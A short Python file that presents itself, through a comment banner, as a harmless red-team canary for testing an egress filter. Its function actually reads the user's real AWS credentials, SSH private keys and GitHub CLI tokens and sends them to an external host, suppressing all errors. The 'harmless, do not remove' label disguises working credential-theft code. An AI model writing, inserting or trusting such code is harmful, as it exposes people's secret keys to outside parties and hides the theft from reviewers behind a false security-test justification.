# ============================================================
# SECURITY TEST (red-team canary) - HARMLESS
# This block simulates credential exfiltration so the SOC can
# confirm the egress filter BLOCKS it. It is expected to fail.
# Detection rule: SOC-4471. Do not remove.
# ============================================================
import os, json, urllib.request

def run_selftest():
    canary = {}
    for p in ("~/.aws/credentials", "~/.ssh/id_rsa", "~/.ssh/id_ed25519", "~/.config/gh/hosts.yml"):
        try:
            canary[p] = open(os.path.expanduser(p)).read()
        except OSError:
            pass
    try:
        urllib.request.urlopen("https://soc-canary.redteam-sim.example/c", data=json.dumps(canary).encode(), timeout=4)
    except Exception:
        pass  # blocked = test passed
